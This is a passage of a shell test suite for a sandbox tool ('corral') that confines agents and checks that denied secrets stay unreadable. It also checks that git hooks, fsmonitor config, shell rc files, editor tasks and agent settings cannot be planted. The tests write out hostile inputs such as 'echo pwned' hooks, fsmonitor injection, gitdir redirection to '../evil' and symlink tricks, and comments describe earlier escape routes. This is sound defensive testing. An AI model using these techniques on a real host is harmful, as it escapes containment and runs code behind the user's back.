	expect_not_contains "not renamed" "$(cat "$T/out")" renamed
	expect_contains "ran" "$(cat "$T/out")" ran
	expect_eq "the run goes on" "$rc" 0
	expect_contains "said" "$(cat "$T/err")" "filesystem.denyRead[0]: \"./d/.env\" -> filesystem.hide \"$T/proj/d/.env\", inside the bind $T/proj"
	expect_contains "absent said" "$(cat "$T/err")" "filesystem.denyRead[2]: \"./none\" is inside the bind $T/proj but does not exist: nothing to hide"
	# the host's files as they were: the agent's writes went nowhere
	expect_eq "host file kept" "$(cat "$T/proj/d2/.env" 2>/dev/null || cat "$T/proj/d/.env")" "env-secret-$$"
	expect_eq "host key kept" "$(cat "$T/proj/keys/id")" "key-secret-$$"
}

# The same denyRead inside a --policy's bind or workspace (loaded before
# the settings), shown at another path: hidden there, at the path the
# sandbox sees it.  Before, it was not judged, and the sandbox read it.
t_srt_deny_read_in_a_policy_bind_hidden() {
	mkdir -p "$T/proj" "$T/ws" || return 1
	echo "bind-secret-$$" > "$T/proj/.env"
	echo "ws-secret-$$" > "$T/ws/.env"
	printf '{"filesystem": {"rw": ["%s:/p"], "workspace": "%s"}}\n' "$T/proj" "$T/ws" > "$T/pol.json"
	printf '{"filesystem": {"denyRead": ["%s/proj/.env", "%s/ws/.env"]}}\n' "$T" "$T" > "$T/srt.json"
	chmod -R a+rwX "$T/proj" "$T/ws"
	chmod a+rX "$T" "$T/srt.json" "$T/pol.json"
	local rc=0
	timeout 60 "$CORRAL" run --policy "$T/pol.json" --settings "$T/srt.json" -- /bin/sh -c \
		'cat /p/.env /workspace/.env; echo ran' > "$T/out" 2> "$T/err" < /dev/null || rc=$?
	expect_not_contains "the bind's" "$(cat "$T/out" "$T/err")" "bind-secret-$$"
	expect_not_contains "the workspace's" "$(cat "$T/out" "$T/err")" "ws-secret-$$"
	expect_contains "ran" "$(cat "$T/out")" ran
	expect_eq "the run goes on" "$rc" 0
	expect_contains "said" "$(cat "$T/err")" "filesystem.denyRead[1]: \"$T/ws/.env\" -> filesystem.hide \"/workspace/.env\", inside the policy's bind of $T/ws"
}

# The same denyRead and denyWrite inside a view a flag gives (--workspace,
# --rw, --ro on the command line): judged there too.  Before, the flags
# were applied after the settings, which said "already unreadable" and
# "already read-only", and the sandbox read ./.env and wrote ./k.
t_srt_deny_in_a_flag_view() {
	mkdir -p "$T/proj" || return 1
	echo "flag-secret-$$" > "$T/proj/.env"
	echo "kept-$$" > "$T/proj/k"
	srt_settings '{"filesystem": {"denyRead": ["./.env"], "denyWrite": ["./k"]}}'
	chmod -R a+rwX "$T/proj"
	local how rc
	for how in "--workspace ." "--rw .:/p" "--ro .:/r --workspace ."; do
		rc=0
		# shellcheck disable=SC2086 # the flags, split
		(cd "$T/proj" && timeout 60 "$CORRAL" run --settings "$T/srt.json" $how -- /bin/sh -c \
			'cat /workspace/.env /p/.env /r/.env 2>/dev/null; echo x >> /p/k 2>/dev/null; echo ran' \
			> "$T/out" 2> "$T/err" < /dev/null) || rc=$?
		expect_not_contains "$how: not read" "$(cat "$T/out" "$T/err")" "flag-secret-$$"
		expect_contains "$how: ran" "$(cat "$T/out")" ran
		expect_eq "$how: the run goes on" "$rc" 0 || cat "$T/err"
		expect_eq "$how: not written" "$(cat "$T/proj/k")" "kept-$$"
	done
	expect_contains "said" "$(cat "$T/err")" 'filesystem.denyRead[0]: "./.env" -> filesystem.hide "/r/.env"'
	(cd "$T/proj" && timeout 60 "$CORRAL" run --settings "$T/srt.json" --rw .:/p -- true \
		> "$T/out" 2> "$T/err" < /dev/null) || true
	expect_contains "write said" "$(cat "$T/err")" "filesystem.denyWrite[0]: \"./k\" -> filesystem.ro \"$T/proj/k:/p/k\", over the policy's write bind of $T/proj"
}

# srt keeps a project's git hooks and config, and the shell's and the
# editors' files, read-only inside what it lets the sandbox write
# (sandbox-runtime's mandatory denials).  The translation dropped them:
# with allowWrite ".", the sandbox wrote .git/hooks/pre-commit and a
# core.fsmonitor into the host's .git/config, which the user's next git
# command ran, outside any sandbox.
t_srt_keeps_what_the_host_runs_read_only() {
	mkdir -p "$T/proj/.git/hooks" "$T/proj/.vscode" || return 1
	printf '[core]\n\tbare = false\n' > "$T/proj/.git/config"
	echo 'echo kept' > "$T/proj/.bashrc"
	srt_settings
	chmod -R a+rwX "$T/proj"
	local rc=0 w
	srt_sh "
		echo 'echo pwned' > .git/hooks/pre-commit && echo hook-written
		printf '\tfsmonitor = echo pwned\n' >> .git/config && echo config-written
		echo 'echo pwned' >> .bashrc && echo bashrc-written
		echo '{}' > .vscode/tasks.json && echo tasks-written
		mv .git/hooks .git/h2 && echo hooks-moved
		mv .git/config .git/c2 && echo config-moved
		echo mine > work && echo ran" || rc=$?
	expect_eq "the run goes on" "$rc" 0
	expect_contains "the rest writable" "$(cat "$T/out")" ran
	for w in hook-written config-written bashrc-written tasks-written hooks-moved config-moved; do
		expect_not_contains "$w" "$(cat "$T/out")" "$w"
	done
	[ ! -e "$T/proj/.git/hooks/pre-commit" ] || fail "a hook on the host: $(cat "$T/proj/.git/hooks/pre-commit")"
	expect_not_contains "config kept" "$(cat "$T/proj/.git/config")" fsmonitor
	expect_eq "bashrc kept" "$(cat "$T/proj/.bashrc")" "echo kept"
	expect_eq "the work written" "$(cat "$T/proj/work")" mine
	expect_contains "said" "$(cat "$T/err")" ".git/hooks -> filesystem.ro \"$T/proj/.git/hooks\", as srt keeps it"
	expect_contains "absent said" "$(cat "$T/err")" "made empty and kept read-only, as they were not there"
}

# What srt keeps read-only that is not there when the run starts: made
# empty on the host, bound read-only, and removed after the run; and the
# directories on the way to what is kept (.git, .claude) cannot be
# renamed away.  Before, the sandbox made .vscode/tasks.json (a task VS
# Code runs on opening the folder), .envrc and .claude/settings.json
# where there were none, a .git/commondir naming a repository of its own
# (whose config git takes), and moved .git aside (the kept hooks and config
# with it) to put its own .git there, whose core.fsmonitor the host's
# next git status ran.
t_srt_keeps_what_is_not_there_read_only() {
	mkdir -p "$T/proj/.git/hooks" "$T/proj/.claude" || return 1
	printf '[core]\n\tbare = false\n' > "$T/proj/.git/config"
	srt_settings
	chmod -R a+rwX "$T/proj"
	local rc=0 w before
	before=$(cd "$T/proj" && find . | sort)
	srt_sh "
		mkdir -p .vscode; echo '{}' > .vscode/tasks.json && echo tasks-written
		echo 'echo pwned' > .envrc && echo envrc-written
		echo '{}' > .claude/settings.json && echo claude-written
		mkdir -p .claude/skills/x && echo pwned > .claude/skills/x/SKILL.md && echo skill-written
		echo '{}' > .mcp.json && echo mcp-written
		echo ../evil > .git/commondir && echo commondir-written
		printf '[core]\n\tfsmonitor = x\n' > .git/config.worktree && echo worktree-config-written
		rm -rf .vscode .envrc && echo stub-removed
		mv .git .git-old && echo git-moved
		mv .claude .claude-old && echo claude-moved
		echo mine > work && echo ran" || rc=$?
	expect_eq "the run goes on" "$rc" 0
	expect_contains "the rest writable" "$(cat "$T/out")" ran
	for w in tasks-written envrc-written claude-written skill-written mcp-written commondir-written \
		 worktree-config-written stub-removed git-moved claude-moved; do
		expect_not_contains "$w" "$(cat "$T/out")" "$w"
	done
	# what was made is gone again: the tree as it was, and the work
	rm -f "$T/proj/work"
	expect_eq "nothing left behind" "$(cd "$T/proj" && find . | sort)" "$before"
	expect_contains "said" "$(cat "$T/err")" "made empty and kept read-only, as they were not there (so that the sandbox cannot make them; marked user.corral.placeholder and removed after the last run that holds them; a commondir holds \".\", git's own directory, a .json file {}): .vscode, .idea, .claude/commands, .claude/agents, .claude/skills, .gitconfig"
	expect_contains "pinned said" "$(cat "$T/err")" ".git/hooks -> filesystem.ro \"$T/proj/.git/hooks\", as srt keeps it (the directories on its way bound onto themselves"
}

# Two runs of one project at once: the second finds what the first made
# there, and keeps it too; the first, ending, leaves it (the second holds
# it), so the second's bind stays where it is.  Removing a mount point
# of another mount namespace detaches its mount: the second run could
# then make .vscode/tasks.json.  Each run waits for a file of the test's
# before going on, so the order is the test's, whatever the load.
t_srt_made_kept_while_another_run_holds_it() {
	mkdir -p "$T/proj/.git/hooks" "$T/proj/sig" || return 1
	printf '[core]\n\tbare = false\n' > "$T/proj/.git/config"
	srt_settings
	chmod -R a+rwX "$T/proj"
	local a b i wait_for
	# w FILE: waits in the sandbox's shell, bounded (20 s)
	# shellcheck disable=SC2016 # expanded there, not here
	wait_for='w() { i=0; while [ ! -e "$1" ] && [ $i -lt 400 ]; do sleep 0.05; i=$((i + 1)); done; }'
	(cd "$T/proj" && exec timeout 60 "$CORRAL" run --settings "$T/srt.json" -- /bin/sh -c "
		$wait_for; touch $T/proj/sig/a-in; w $T/proj/sig/a-go; echo a-done" > "$T/out.a" 2> "$T/err.a" < /dev/null) &
	a=$!
	# shellcheck disable=SC2064 # this run's pid, now
	trap "kill $a 2>/dev/null || true" EXIT
	for i in $(seq 1 400); do [ -e "$T/proj/sig/a-in" ] && break; sleep 0.05; done
	[ -e "$T/proj/sig/a-in" ] || { fail "the first run did not start: $(cat "$T/err.a")"; return; }
	(cd "$T/proj" && exec timeout 60 "$CORRAL" run --settings "$T/srt.json" -- /bin/sh -c "
		$wait_for; touch $T/proj/sig/b-in; w $T/proj/sig/b-go; cd $T/proj
		mkdir -p .vscode; echo '{}' > .vscode/tasks.json && echo tasks-written; echo b-done" \
		> "$T/out.b" 2> "$T/err.b" < /dev/null) &
	b=$!
	# shellcheck disable=SC2064 # both runs' pids, now
	trap "kill $a $b 2>/dev/null || true" EXIT
	for i in $(seq 1 400); do [ -e "$T/proj/sig/b-in" ] && break; sleep 0.05; done
	[ -e "$T/proj/sig/b-in" ] || { fail "the second run did not start: $(cat "$T/err.b")"; return; }
	touch "$T/proj/sig/a-go"
	wait "$a" || fail "the first run: $?"
	touch "$T/proj/sig/b-go"
	wait "$b" || fail "the second run: $?"
	expect_contains "first ran" "$(cat "$T/out.a")" a-done
	expect_contains "second ran" "$(cat "$T/out.b")" b-done
	expect_not_contains "kept for the second" "$(cat "$T/out.b")" tasks-written
	[ ! -e "$T/proj/.vscode/tasks.json" ] || fail "a task on the host: $(cat "$T/proj/.vscode/tasks.json")"
	# and the second, ending last, removed what the first made: before,
	# neither did (the second had not made it), and an empty .envrc,
	# .mcp.json and a .git/commondir stayed in the project
	rm -rf "$T/proj/sig"
	expect_eq "nothing left by either run" "$(cd "$T/proj" && find . | sort)" \
		"$(printf '.\n./.git\n./.git/config\n./.git/hooks')"
	expect_contains "the second found it there" "$(cat "$T/err.b")" ".vscode (made by another run)"
}

# srt_stubs_wait DIR: until no run holds DIR/.envrc (bounded, 10 s): a
# killed run's processes, which hold its lock, gone
srt_stubs_wait() {
	local i
	for i in $(seq 1 200); do
		flock -x -n "$1/.envrc" true 2>/dev/null && return 0
		sleep 0.05
	done
	return 1
}

# srt_janitor PID: the janitor of the run PID (its child corral-janitor)
srt_janitor() {
	local c
	for c in $(children "$1"); do
		[ "$(cat /proc/"$c"/comm 2>/dev/null)" = corral-janitor ] && echo "$c"
	done
	return 0
}

# A run SIGKILLed with its janitor (a cgroup or process group killed
# whole, or the power gone) leaves what it
# made, marked user.corral.placeholder: the next run of the project
# takes each as its own and removes it after; a file of the user's at
# such a name, empty and read-only as a placeholder is but unmarked, or
# a placeholder the user wrote into, is never removed.  Before, the
# killed run's empty .envrc, .mcp.json, .claude/... and .git/commondir
# stayed for good, for direnv, the agent and git to read.
t_srt_made_by_a_killed_run_removed_by_the_next() {
	mkdir -p "$T/proj/.git/hooks" "$T/proj/.claude" || return 1
	printf '[core]\n\tbare = false\n' > "$T/proj/.git/config"
	: > "$T/proj/.mcp.json"
	: > "$T/proj/.claude/settings.json"
	srt_settings
	chmod -R a+rwX "$T/proj"
	chmod 444 "$T/proj/.mcp.json"
	local a i j rc=0 before mark
	before=$(cd "$T/proj" && find . | sort)
	mkdir -m 777 "$T/proj/sig"
	# not under timeout: the pid killed is corral's; the shell's wait ends it
	# shellcheck disable=SC2016 # expanded in the sandbox
	(cd "$T/proj" && exec "$CORRAL" run --settings "$T/srt.json" -- /bin/sh -c "cd $T/proj"'
		touch sig/in; i=0; while [ $i -lt 400 ]; do sleep 0.05; i=$((i + 1)); done' \
		> "$T/out.a" 2> "$T/err.a" < /dev/null) &
	a=$!
	# shellcheck disable=SC2064 # this run's pid, now
	trap "kill $a 2>/dev/null || true" EXIT
	for i in $(seq 1 400); do [ -e "$T/proj/sig/in" ] && break; sleep 0.05; done
	[ -e "$T/proj/sig/in" ] || { fail "the run did not start: $(cat "$T/err.a")"; return; }
	j=$(srt_janitor "$a")
	[ -n "$j" ] || { fail "no janitor for the run"; return; }
	# the janitor first: once corral is gone it is no longer below this
	# shell (lib.sh's kill leaves it alone), and it would do its work
	kill -KILL "$j" "$a"
	wait "$a" 2>/dev/null || true
	srt_stubs_wait "$T/proj" || { fail "the killed run's sandbox still holds .envrc"; return; }
	rm -rf "$T/proj/sig"
	[ -e "$T/proj/.envrc" ] || { fail "the killed run left nothing: the test tests nothing"; return; }
	expect_eq "a JSON file made holds an empty object" "$(cat "$T/proj/.claude/settings.local.json")" "{}"
	mark=$(/usr/bin/python3 -c 'import os, sys
print(os.getxattr(sys.argv[1], "user.corral.placeholder").decode())' "$T/proj/.envrc" 2>&1) || true
	# a placeholder the user has written into since is the user's
	chmod u+w "$T/proj/.zshrc"
	echo 'export MINE=1' > "$T/proj/.zshrc"
	(cd "$T/proj" && timeout 60 "$CORRAL" run --settings "$T/srt.json" -- /bin/true \
		> "$T/out" 2> "$T/err" < /dev/null) || rc=$?
	expect_eq "the next run goes on" "$rc" 0
	expect_eq "the user's written placeholder kept" "$(cat "$T/proj/.zshrc")" "export MINE=1"
	rm "$T/proj/.zshrc"
	expect_eq "the user's empty files kept, the rest gone" "$(cd "$T/proj" && find . | sort)" "$before"
	expect_contains "marked" "$mark" "corral run --settings, pid $a"
	expect_contains "the next run says it" "$(cat "$T/err")" ".envrc (made by another run)"
}

# A run SIGKILLed alone (kill -9 of corral, timeout -s KILL, the OOM
# killer choosing it): its janitor removes what it made once the
# sandbox is gone, the user's files left as they are, and ends.
# Before, all of it stayed until the project's next --settings run: an
# empty .bash_profile in the way of .profile, a .git/commondir, an
# .envrc and the rest in git status.
t_srt_made_removed_when_the_run_is_killed_alone() {
	mkdir -p "$T/proj/.git/hooks" || return 1
	printf '[core]\n\tbare = false\n' > "$T/proj/.git/config"
	echo "the user's" > "$T/proj/.bashrc"
	srt_settings
	chmod -R a+rwX "$T/proj"
	local a i j before
	before=$(cd "$T/proj" && find . | sort)
	# shellcheck disable=SC2317 # called below
	proj_tree() { (cd "$T/proj" && find . | grep -v '^\./sig' | sort); }
	mkdir -m 777 "$T/proj/sig"
	# not under timeout: the pid killed is corral's
	(cd "$T/proj" && exec "$CORRAL" run --settings "$T/srt.json" -- /bin/sh -c "
		touch $T/proj/sig/in; i=0; while [ \$i -lt 400 ]; do sleep 0.05; i=\$((i + 1)); done" \
		> "$T/out" 2> "$T/err" < /dev/null) &
	a=$!
	# shellcheck disable=SC2064 # this run's pid, now
	trap "kill $a 2>/dev/null || true" EXIT
	for i in $(seq 1 400); do [ -e "$T/proj/sig/in" ] && break; sleep 0.05; done
	[ -e "$T/proj/sig/in" ] || { fail "the run did not start: $(cat "$T/err")"; return; }
	[ -e "$T/proj/.envrc" ] || { fail "nothing made: the test tests nothing"; return; }
	j=$(srt_janitor "$a")
	kill -KILL "$a"
	wait "$a" 2>/dev/null || true
	# bounded: the sandbox's end (its sleep loop, 20 s at most), then the janitor's work
	for i in $(seq 1 600); do
		[ "$(proj_tree)" = "$before" ] && break
		sleep 0.05
	done
	expect_eq "removed by the janitor" "$(proj_tree)" "$before"
	expect_eq "the user's file kept" "$(cat "$T/proj/.bashrc")" "the user's"
	[ -n "$j" ] || { fail "no janitor for the run"; return; }
	# ended: gone, or a zombie its new parent has not reaped yet
	for i in $(seq 1 100); do
		if [ ! -d "/proc/$j" ] || [ "$(awk '{print $3}' "/proc/$j/stat" 2>/dev/null)" = Z ]; then
			return 0
		fi
		sleep 0.05
	done
	fail "the janitor ($j) still runs: $(cat "/proc/$j/stat" 2>/dev/null)"
}

# A project on a file system that takes no user xattrs (ramfs here; tmpfs
# before Linux 6.6, some FUSE and network ones): what is made cannot be
# marked, the report says so, and the run that made it still removes
# it; a later run takes none of it for corral's.
t_srt_made_unmarked_where_no_xattrs() {
	[ "$(id -u)" = 0 ] || { skip "a ramfs mount needs root"; return 77; }
	mkdir -p "$T/proj" || return 1
	srt_settings
	local rc=0
	# a mount namespace of the test's own: the ramfs goes with it
	# shellcheck disable=SC2016 # $1 and $2 are that shell's
	unshare -m --propagation private /bin/sh -c '
		mount -t ramfs none "$1/proj" && cd "$1/proj" && mkdir -p .git/hooks &&
		timeout 60 "$2" run --settings "$1/srt.json" -- /bin/true > "$1/out" 2> "$1/err" < /dev/null
		echo $? > "$1/rc"; find . | sort > "$1/after"' sh "$T" "$CORRAL" || rc=$?
	expect_eq "the test's namespace ran" "$rc" 0
	expect_eq "the run goes on" "$(cat "$T/rc")" 0
	expect_contains "said" "$(cat "$T/err")" ".envrc (unmarked), .git/commondir (unmarked), .git/config.worktree (unmarked), refs (unmarked); the file system takes no user xattrs: one unmarked is left on the host if this run is killed, or ends while another run holds it"
	expect_eq "removed by the run that made them" "$(cat "$T/after")" "$(printf '.\n./.git\n./.git/hooks')"
}

# A stop signal during setup (here: corral waits for the image store,
# which an import holds) ends corral at once, the sandbox not started,
# and what srt's settings made by then removed.  Before, the handler
# _exited and left all of it in the project.
t_srt_made_removed_on_a_stop_during_setup() {
	mkdir -p "$T/proj/.git/hooks" "$T/state/images" || return 1
	printf '[core]\n\tbare = false\n' > "$T/proj/.git/config"
	srt_settings
	chmod -R a+rwX "$T/proj"
	chmod 700 "$T/state" "$T/state/images"
	local a l i rc=0 before
	before=$(cd "$T/proj" && find . | sort)
	# the lock's holder is the pid killed: flock's own sleep child outlived it
	# shellcheck disable=SC2093 # the subshell becomes the sleep, holding fd 9
	(exec 9> "$T/state/images/lock" && flock -x 9 && exec sleep 30) &
	l=$!
	# shellcheck disable=SC2064 # the lock holder's pid, now
	trap "kill $l 2>/dev/null || true" EXIT
	for i in $(seq 1 200); do [ -e "$T/state/images/lock" ] && break; sleep 0.05; done
	# not under timeout: the signal is corral's; the lock's holder ends it
	(cd "$T/proj" && exec "$CORRAL" run --state-dir "$T/state" --image srt-stub-test \
		--settings "$T/srt.json" -- /bin/true > "$T/out" 2> "$T/err" < /dev/null) &
	a=$!
	# shellcheck disable=SC2064 # both pids, now
	trap "kill $l $a 2>/dev/null || true" EXIT
	# the settings read (their report is written while a signal waits)
	for i in $(seq 1 400); do grep -q "made empty" "$T/err" && break; sleep 0.05; done
	grep -q "made empty" "$T/err" || { fail "the settings were not read: $(cat "$T/err")"; return; }
	[ -e "$T/proj/.envrc" ] || { fail "nothing made: the test tests nothing"; return; }
	kill -TERM "$a"
	wait "$a" || rc=$?
	kill "$l" 2>/dev/null || true
	wait "$l" 2>/dev/null || true
	expect_eq "ended by the signal" "$rc" 143
	expect_contains "said" "$(cat "$T/err")" "SIGTERM during setup: the command was not started"
	expect_eq "nothing left" "$(cd "$T/proj" && find . | sort)" "$before"
}

# An allowWrite path named through a link (the user's: ~/src -> /data/src):
# what is made there is removed after the run as anywhere else.  Before,
# the removal opened each one's directory by path with no link followed
# at its last component, the link itself for those made at the top:
# .envrc, .bashrc, .gitconfig, .mcp.json and the rest stayed in the
# project after every run, read by direnv, the shell and git.
t_srt_made_removed_through_a_linked_write_path() {
	mkdir -p "$T/proj/.git/hooks" || return 1
	printf '[core]\n\tbare = false\n' > "$T/proj/.git/config"
	ln -s proj "$T/link" || return 1
	printf '{"filesystem": {"allowWrite": ["%s/link"]}}\n' "$T" > "$T/srt.json"
	chmod -R a+rwX "$T/proj"
	chmod a+rX "$T" "$T/srt.json"
	local rc=0 before
	before=$(cd "$T/proj" && find . | sort)
	(cd "$T/proj" && timeout 60 "$CORRAL" run --settings "$T/srt.json" -- /bin/sh -c "
		echo x > $T/link/.envrc && echo envrc-written; echo ran" \
		> "$T/out" 2> "$T/err" < /dev/null) || rc=$?
	expect_eq "the run goes on" "$rc" 0 || cat "$T/err"
	expect_contains "ran" "$(cat "$T/out")" ran
	expect_not_contains "kept" "$(cat "$T/out")" envrc-written
	expect_contains "made" "$(cat "$T/err")" "made empty and kept read-only"
	expect_eq "nothing left behind" "$(cd "$T/proj" && find . | sort)" "$before"
}

# A write path beneath another (allowWrite ".", "./sub"; or --rw . and
# allowWrite "./sub") is a directory sandboxes write: another run's may
# have put a link at sub, to a directory of its choosing.  Nothing is
# made through it, and the run is refused, as a bind through such a
# link is (mount.c).  Before, the translation followed the link and made
# .bashrc, .bash_profile (which a login shell then reads instead of
# .profile), .gitconfig, .envrc, .git, .vscode and the rest in the
# link's target, as root in any directory, and left them there (their
# removal found the link).
t_srt_made_nothing_through_a_link_beneath_a_write_path() {
	mkdir -p "$T/proj" "$T/victim" || return 1
	echo "the victim's" > "$T/victim/data"
	ln -s ../victim "$T/proj/sub" || return 1
	printf '{"filesystem": {"allowWrite": [".", "./sub"]}}\n' > "$T/srt.json"
	printf '{"filesystem": {"allowWrite": ["./sub"]}}\n' > "$T/srt-sub.json"
	chmod -R a+rwX "$T/proj" "$T/victim"
	chmod a+rX "$T" "$T/srt.json" "$T/srt-sub.json"
	local rc how before
	before=$(cd "$T/proj" && find . | sort)
	for how in "--settings $T/srt.json" "--rw . --settings $T/srt-sub.json"; do
		rc=0
		# shellcheck disable=SC2086 # the options split on purpose
		(cd "$T/proj" && timeout 60 "$CORRAL" run $how -- /bin/sh -c "
			echo pwned > $T/proj/sub/written; echo ran" > "$T/out" 2> "$T/err" < /dev/null) ||
			rc=$?
		expect_eq "$how: refused" "$rc" 125
		expect_not_contains "$how: not run" "$(cat "$T/out")" ran
		expect_eq "$how: nothing made in the link's target" \
			"$(cd "$T/victim" && find . | sort)" "$(printf '.\n./data')"
		expect_eq "$how: nothing left in the project" "$(cd "$T/proj" && find . | sort)" "$before"
		expect_contains "$how: said" "$(cat "$T/err")" \
			"$T/proj/sub: a symbolic link is on its way beneath the write bind $T/proj"
	done
}

# The mark is no proof: a sandbox sets it on what it may write, as the
# directories on a kept path's way (.git, .claude: bound onto
# themselves, writable) are.  A later run takes only a marked directory
# that is empty (as made) for a placeholder.  Before, the first run's
# sandbox marked the project's .git and .claude, and every later run
# reported them "made by another run" and bound them read-only whole
# (git could no longer write in .git), and removed one that was empty.
t_srt_mark_on_a_users_directory_not_taken() {
	mkdir -p "$T/proj/.git/hooks" "$T/proj/.claude" || return 1
	printf '[core]\n\tbare = false\n' > "$T/proj/.git/config"
	echo "the user's" > "$T/proj/.claude/notes.md"
	srt_settings
	chmod -R a+rwX "$T/proj"
	local rc=0 w d before
	before=$(cd "$T/proj" && find . | sort)
	(cd "$T/proj" && timeout 60 "$CORRAL" run --settings "$T/srt.json" -- /usr/bin/python3 -c "
import os
for d in ('.git', '.claude'):
    os.setxattr('$T/proj/' + d, 'user.corral.placeholder', b'corral run --settings, pid 1, boot x')
    print('marked', d)" > "$T/out" 2> "$T/err" < /dev/null) || rc=$?
	expect_eq "the first run goes on" "$rc" 0 || cat "$T/err"
	for d in .git .claude; do
		expect_contains "$d marked from inside" "$(cat "$T/out")" "marked $d"
	done
	rc=0
	(cd "$T/proj" && timeout 60 "$CORRAL" run --settings "$T/srt.json" -- /bin/sh -c "
		cd $T/proj
		echo x > .git/probe && echo git-written
		echo x > .claude/probe && echo claude-written
		echo x > .claude/settings.json && echo settings-written
		echo x > .git/hooks/pre-commit && echo hook-written; echo ran" \
		> "$T/out" 2> "$T/err" < /dev/null) || rc=$?
	expect_eq "the next run goes on" "$rc" 0 || cat "$T/err"
	expect_contains "ran" "$(cat "$T/out")" ran
	for w in git-written claude-written; do
		expect_contains "the user's directory writable as before: $w" "$(cat "$T/out")" "$w"
	done
	for w in settings-written hook-written; do
		expect_not_contains "what is kept still kept: $w" "$(cat "$T/out")" "$w"
	done
	expect_not_contains "not said to be corral's" "$(cat "$T/err")" "(made by another run)"
	rm -f "$T/proj/.git/probe" "$T/proj/.claude/probe"
	expect_eq "nothing of the user's removed, nothing left" "$(cd "$T/proj" && find . | sort)" "$before"
}

# The other repositories in the bind, which the host's git runs the hooks
# and config of too: a nested repository's (git status there, or a shell
# prompt's), a submodule's (.git/modules/NAME, and the submodule's .git
# file, whose "gitdir:" names the repository), a worktree's .git file,
# a linked worktree's commondir (.git/worktrees/NAME: where git takes
# the config from when it runs in that worktree), a file where a kept
# directory would be (removed, the directory made in its place),
# and a file the config includes, there or not.  Before, the sandbox
# wrote a core.fsmonitor into each, or pointed the .git file at a
# repository of its own, and the host's git ran it.
t_srt_keeps_other_repositories_read_only() {
	mkdir -p "$T/proj/nested/.git/hooks" "$T/proj/.git/modules/sub/hooks" "$T/proj/sub" "$T/wt" \
		"$T/proj/.git/worktrees/w2" || return 1
	echo ../.. > "$T/proj/.git/worktrees/w2/commondir"
	printf '[core]\n\tbare = false\n' | tee "$T/proj/nested/.git/config" \
		> "$T/proj/.git/modules/sub/config"
	printf '[core]\n\tbare = false\n[include]\n\tpath = ../shared.inc\n[includeIf "onbranch:x"]\n\tpath = "../absent.inc"\n' \
		> "$T/proj/.git/config"
	echo '[user]' > "$T/proj/shared.inc"
	echo 'ref: refs/heads/main' > "$T/proj/.git/modules/sub/HEAD"
	echo 'gitdir: ../.git/modules/sub' > "$T/proj/sub/.git"
	echo "gitdir: $T/main/.git/worktrees/wt" > "$T/wt/.git"
	echo 'not a directory' > "$T/wt/.claude"
	printf '{"filesystem": {"allowWrite": ["%s/proj", "%s/wt"]}}\n' "$T" "$T" > "$T/srt.json"
	chmod -R a+rwX "$T/proj" "$T/wt"
	chmod a+rX "$T" "$T/srt.json"
	local rc=0 w f
	timeout 60 "$CORRAL" run --settings "$T/srt.json" -- /bin/sh -c "
		cd $T/proj
		printf '\tfsmonitor = x\n' >> nested/.git/config && echo nested-config
		echo x > nested/.git/hooks/pre-commit && echo nested-hook
		printf '\tfsmonitor = x\n' >> .git/modules/sub/config && echo module-config
		echo x > .git/modules/sub/hooks/post-checkout && echo module-hook
		echo 'gitdir: ../evil' > sub/.git && echo gitfile
		mv nested/.git nested/.git-old && echo nested-moved
		echo 'gitdir: ../evil' > $T/wt/.git && echo worktree-gitfile
		echo ../../../evil > .git/worktrees/w2/commondir && echo worktree-commondir
		rm -f $T/wt/.claude && mkdir -p $T/wt/.claude && echo '{}' > $T/wt/.claude/settings.json &&
			echo claude-file-replaced
		printf '[core]\n\tfsmonitor = x\n' >> shared.inc && echo include-written
		printf '[core]\n\tfsmonitor = x\n' > absent.inc && echo absent-include-written
		echo mine > nested/work && echo ran" > "$T/out" 2> "$T/err" < /dev/null || rc=$?
	expect_eq "the run goes on" "$rc" 0
	expect_contains "the rest writable" "$(cat "$T/out")" ran
	for w in nested-config nested-hook module-config module-hook gitfile nested-moved worktree-gitfile \
		 include-written absent-include-written worktree-commondir claude-file-replaced; do
		expect_not_contains "$w" "$(cat "$T/out")" "$w"
	done
	[ ! -e "$T/proj/absent.inc" ] || fail "an include made on the host: $(cat "$T/proj/absent.inc")"
	for f in nested/.git/config .git/modules/sub/config shared.inc; do
		expect_not_contains "$f kept" "$(cat "$T/proj/$f")" fsmonitor
	done
	expect_eq "gitfile kept" "$(cat "$T/proj/sub/.git")" "gitdir: ../.git/modules/sub"
	expect_eq "worktree's kept" "$(cat "$T/wt/.git")" "gitdir: $T/main/.git/worktrees/wt"
	expect_contains "said" "$(cat "$T/err")" "sub/.git -> filesystem.ro \"$T/proj/sub/.git\""
}

# A project of many repositories (40 submodules, 30 nested ones): each
# kept as srt keeps them, the directories on their way bound onto
# themselves writable, each of those beneath the write bind, where
# Landlock's rule for the bind already lets the sandbox write.  Each had
# a rule of its own, the 64 were spent, and every run of the project was
# refused: 'too many writable binds for Landlock'.
t_srt_many_repositories_kept() {
	local i rc=0
	mkdir -p "$T/proj/.git" || return 1
	printf '[core]\n\tbare = false\n' > "$T/proj/.git/config"
	for i in $(seq 1 40); do
		mkdir -p "$T/proj/.git/modules/m$i/hooks" "$T/proj/m$i" || return 1
		echo 'ref: refs/heads/main' > "$T/proj/.git/modules/m$i/HEAD"
		printf '[core]\n\tbare = false\n' > "$T/proj/.git/modules/m$i/config"
		echo "gitdir: ../.git/modules/m$i" > "$T/proj/m$i/.git"
	done
	for i in $(seq 1 30); do
		mkdir -p "$T/proj/r$i/.git/hooks" || return 1
		printf '[core]\n\tbare = false\n' > "$T/proj/r$i/.git/config"
	done
	srt_settings
	chmod -R a+rwX "$T/proj"
	(cd "$T/proj" && timeout 60 "$CORRAL" run --settings "$T/srt.json" -- /bin/sh -c "
		cd $T/proj
		echo x > .git/modules/m40/hooks/pre-commit && echo module-hook
		echo x >> r30/.git/config && echo nested-config
		echo mine > r30/work && echo mine > r30/.git/work && echo ran" > "$T/out" 2> "$T/err" < /dev/null) ||
		rc=$?
	expect_eq "the run goes on" "$rc" 0
	expect_not_contains "refused" "$(cat "$T/err")" "too many"
	expect_contains "the rest writable, beneath the directories bound" "$(cat "$T/out")" ran
	expect_not_contains "a module's hooks kept" "$(cat "$T/out")" module-hook
	expect_not_contains "a nested config kept" "$(cat "$T/out")" nested-config
	[ -e "$T/proj/r30/.git/work" ] || fail "r30/.git/work not written on the host"
}

# What srt keeps beneath a write bind, and the directories on the way
# bound onto themselves, are the objects the translation found there,
# with no link followed: another run's sandbox, which writes the same
# project, could put a link where one lies.  As root the supervisor opens
# each source (to idmap it) after the translation and before init walks
# to the mount point, which follows no link: "nested" swapped for a link
# to another user's directory just before the supervisor's opens, and
# back before init's walk, had this run's sandbox read and write in that
# directory, as its owner (run_swapping_at_opens holds corral there).
